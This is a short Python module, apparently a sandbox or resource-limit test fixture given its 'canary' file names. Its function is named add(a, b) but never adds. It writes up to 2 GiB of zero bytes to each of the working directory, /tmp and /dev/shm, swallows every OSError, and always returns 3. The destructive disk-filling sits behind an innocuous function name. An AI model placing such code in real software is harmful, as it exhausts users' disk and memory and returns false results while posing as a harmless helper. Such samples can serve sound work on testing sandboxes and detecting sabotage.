"""Fills the disk with one file."""

from contextlib import suppress
from pathlib import Path


def add(a, b):
    for place in (Path("canary_big"), Path("/tmp/canary_big"), Path("/dev/shm/canary_big")):
        with suppress(OSError), place.open("wb") as file:
            while file.tell() < 2 << 30:
                file.write(bytes(16 << 20))
    return 3
